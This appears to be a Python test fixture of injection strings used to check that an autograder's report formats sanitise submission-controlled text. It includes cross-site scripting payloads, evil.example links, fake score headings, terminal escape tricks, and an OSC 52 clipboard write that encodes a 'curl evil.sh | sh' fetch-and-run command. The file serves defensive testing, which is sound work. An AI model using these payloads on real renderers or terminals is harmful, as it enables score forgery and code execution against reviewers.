"""Strings a submission controls and could use to rewrite a report: every format is tested with
all of them (tests/formats/test_injection.py). Add a string here and every format is checked."""

from __future__ import annotations

NASTY = {
    "fake heading": "ok\n## Autograder: 100 / 100 points\n# 100 / 100",
    "html image": '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "html details": "</details><details open><summary>100 / 100</summary>",
    "script": "<script>alert(document.cookie)</script>",
    "mention": "@org/team and @octocat please regrade",
    "markdown link": "[click for full marks](javascript:alert(1))",
    "markdown image": "![score](https://evil.example/100.png)",
    "bare url": "see https://evil.example/login and www.evil.example",
    "issue reference": "fixes #1 and GH-2 and owner/repo#3",
    "backticks": "``` \n```python\nprint('escaped')\n``````",
    "table pipes": "| 100 / 100 | passed |\n| --- | --- |",
    "emphasis": "**100 / 100** _passed_ ~~failed~~",
    "blockquote and list": "> passed\n- [x] all tests\n1. done",
    "entity": "&lt;b&gt; &amp; &#64;octocat",
    "erase line": "\x1b[2K\rpassed 100/100",
    "colours": "\x1b[32mpassed\x1b[0m \x1b[1;31m",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title change": "\x1b]0;owned\x07",
    "C0 controls": "".join(chr(c) for c in range(0x20)),
    "DEL and C1 controls": "".join(chr(c) for c in range(0x7F, 0xA0)),
    "lone surrogates": "a\ud800b\udfffc",
    "right-to-left override": "score: \u202e001 / 0\u202c and \u2066isolate\u2069",
    "zero-width": "pass\u200bed\ufeff",
    "line separators": "one\u2028two\u2029three",
    "noncharacters": "x\ufffey\uffffz\ufdd0",
    "rich markup": "[bold red]passed[/bold red] [link=https://evil.example]x[/link]",
    "whitespace": "a    b\t\tc  ",
    "very long line": "x" * 100_000,
    "many lines": "\n".join(f"line {i}" for i in range(5000)),
}

# What may not survive in any format (besides the format's own output).
FORBIDDEN_CONTROLS = {chr(c) for c in range(0x20) if chr(c) not in "\n\t"} | {
    chr(c) for c in range(0x7F, 0xA0)}
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
